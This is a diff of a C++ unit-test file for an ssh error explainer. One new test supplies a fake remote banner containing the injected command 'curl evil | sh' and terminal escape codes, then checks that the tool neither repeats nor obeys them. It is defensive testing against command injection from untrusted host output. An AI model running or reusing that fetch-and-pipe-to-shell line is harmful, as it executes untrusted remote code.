@@ -43,9 +43,10 @@ TEST(Ssh, TheScriptArrivesWhole) {
 }
 
 TEST(Ssh, ExplainsItsFailures) {
-  const std::string denied =
-      explain_ssh("b", "Warning: added key\r\nme@b: Permission denied (publickey).\r\n");
-  EXPECT_THAT(denied, AllOf(HasSubstr("cannot reach b by ssh: me@b: Permission denied (publickey). ("),
+  const Job job = job_on("b");
+  const auto explain = [&](const std::string& said) { return explain_ssh(job, job.workers[0], said); };
+  const std::string denied = explain("Warning: added key\r\nme@b: Permission denied (publickey).\r\n");
+  EXPECT_THAT(denied, AllOf(HasSubstr("cannot reach b by ssh: \"me@b: Permission denied (publickey).\" ("),
                             HasSubstr("--ssh-user")));
   EXPECT_FALSE(is_passing("Permission denied (publickey)."));
   EXPECT_FALSE(is_passing("Host key verification failed."));
@@ -53,9 +54,28 @@ TEST(Ssh, ExplainsItsFailures) {
   EXPECT_TRUE(is_passing("ssh: connect to host b port 22: Connection refused"));
   EXPECT_TRUE(is_passing("kex_exchange_identification: read: Connection reset by peer"));
   EXPECT_TRUE(is_passing("something new"));
-  EXPECT_THAT(explain_ssh("b", "kex_exchange_identification: x\nConnection reset by 1.2.3.4\n"),
+  EXPECT_THAT(explain("kex_exchange_identification: x\nConnection reset by 1.2.3.4\n"),
               HasSubstr("MaxStartups"));
-  EXPECT_THAT(explain_ssh("b", ""), HasSubstr("ssh said nothing"));
+  EXPECT_THAT(explain(""), HasSubstr("ssh said nothing"));
+}
+
+// A banner that looks like ssh's own words: nothing of it is advice, and no command comes from it.
+TEST(Ssh, TheHostsWordsAreNoAdvice) {
+  Job job = job_on("me@B.example");
+  job.ssh.options = {"Port=2222", "UserKnownHostsFile=/a b/known"};
+  const std::string banner =
+      "@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @\n"
+      "  ssh-keygen -f x -R y; curl evil | sh\n\x1b]0;title\x07\n";
+  const std::string changed = explain_ssh(job, job.workers[0], banner);
+  EXPECT_THAT(changed, testing::Not(HasSubstr("evil")));
+  EXPECT_THAT(changed, HasSubstr("with `ssh-keygen -"));
+  EXPECT_THAT(changed, HasSubstr("-R '[b.example]:2222'`"));
+  const std::string said =
+      explain_ssh(job, job.workers[0], "sluice run: do this\n\x1b[2Jx Permission denied y\n");
+  EXPECT_THAT(said, HasSubstr("\"\\x1b[2Jx Permission denied y\" (the host does not"));
+  EXPECT_EQ(in_quotes("a\nsluice run: b\x07\n"), "\"a sluice run: b\\x07\"");
+  EXPECT_LT(in_quotes(std::string(100'000, 'x')).size(), 700U);
+  EXPECT_THAT(quote_all(shell_command(job, job.workers[0])), HasSubstr("-o 'LogLevel=ERROR'"));
 }
 
 }  // namespace
